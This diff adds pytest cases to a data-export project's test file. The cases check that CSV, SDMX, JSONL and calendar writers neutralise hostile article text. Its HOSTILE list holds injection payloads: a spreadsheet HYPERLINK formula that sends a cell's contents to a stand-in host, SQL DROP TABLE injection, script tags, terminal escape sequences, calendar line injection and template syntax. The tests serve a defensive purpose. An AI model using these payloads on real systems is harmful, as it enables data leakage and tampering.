@@ -243,3 +243,80 @@ def test_words_of_an_article_add_no_property_to_a_calendar():
     (event,), _ = events(kept(visits=[evil], title="b\nATTENDEE:mailto:x@y"))
     assert event["status"] == "TENTATIVE"
     assert not isinstance(event["attendee"], list)
+
+
+# --- what an article's author may write ---
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/"&A1,"ok")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "\x1b]8;;http://x.example/\x07click\x1b]8;;\x07",
+    "\x1b[2J\x1b]0;owned\x07",
+    "\x9b31mred",
+    "a\r\nSTATUS:CANCELLED\r\nEND:VEVENT",
+    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
+    "\u202egnp.exe",
+    "\U000e0041\U000e0042tagged",
+    '","=1+1","',
+    "'; DROP TABLE visit; --",
+    "{{7*7}}{% if x %}",
+    "\ud7ff\ufffe\uffff",
+    "a\x00b",
+    'ATTENDEE;CN="x":mailto:a@b',
+    "\\nBEGIN:VALARM",
+]
+CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202e\U000e0041]")
+
+
+def hostile(words):
+    """An extraction that says ``words`` wherever an article's words can stand."""
+    who = Person(name=words, country="AR", role=words)
+    place = Place(country="KG", city=words)
+    return kept(
+        visits=[visit(visitor=who, hosts=(who,), destination=place, purpose=words, attributed_to=words)],
+        summits=[summit(name=words, place=place, participants=(Participant(person=who),), attributed_to=words)],
+        figures=[figure(product=words, source_org=words, attributed_to=words, share_of=words)],
+        title=words,
+        source=words,
+        url=words,
+    )
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_stay_words_in_every_file(words):
+    evil, plain = hostile(words), hostile("слово")
+    for table in TABLES:
+        stream = io.StringIO()
+        csvs.write(table, [evil], stream)
+        lines = stream.getvalue().split("\r\n")
+        assert len(lines) == 3
+        assert not CONTROLS.search(stream.getvalue())
+        for cell in next(csv.reader([lines[1]])):
+            assert not cell.startswith(("=", "+", "-", "@"))
+    stream = io.StringIO()
+    assert sdmx.write([evil], stream) == (1, 0)
+    assert not CONTROLS.search(stream.getvalue())
+    (row,) = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
+    assert list(row) == list(sdmx.COLUMNS)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+    stream = io.StringIO()
+    jsonl.write([evil, plain], stream)
+    assert len(stream.getvalue().splitlines()) == 2
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", stream.getvalue())
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_add_no_line_to_a_calendar(words):
+    def names(one):
+        return [sorted(event.keys()) for event in events(one)[0]]
+
+    assert names(hostile(words)) == names(hostile("слово"))
+    assert [event.get("status") for event in events(hostile(words))[0]] == ["TENTATIVE", None]
+    text = calendar.calendar([hostile(words)])[0].decode()
+    assert len(re.findall("^BEGIN:", text, re.MULTILINE)) == 3
+    assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
